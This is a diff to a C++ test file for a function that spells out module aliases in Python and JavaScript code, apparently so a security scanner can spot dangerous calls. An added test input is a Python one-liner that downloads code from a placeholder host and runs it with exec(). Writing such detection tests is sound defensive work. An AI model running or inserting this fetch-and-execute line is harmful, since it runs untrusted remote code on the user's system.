@@ -30,6 +30,10 @@ TEST_CASE("module aliases and from-imports are spelled canonically, line breaks 
   REQUIRE(js);
   CHECK(js->find("child_process.exec(c)") != std::string::npos);
   CHECK(js->find("globalThis.eval(s)") != std::string::npos);
+  // One-liners: the import is one statement of the line, the rest is read with the alias spelled.
+  auto one_line = canonical_aliases(Language::python, "import urllib.request as u;exec(u.urlopen('https://x.example.com/b').read())");
+  REQUIRE(one_line);
+  CHECK(one_line->find("exec(urllib.request.urlopen(") != std::string::npos);
   // nothing security-relevant renamed: no second reading
   CHECK_FALSE(canonical_aliases(Language::python, "import numpy as np\nfrom os import path\nprint(np.ones(3))\n"));
   CHECK_FALSE(canonical_aliases(Language::javascript, "const a = rows['id'];\nconst { x } = require('./y');\n"));
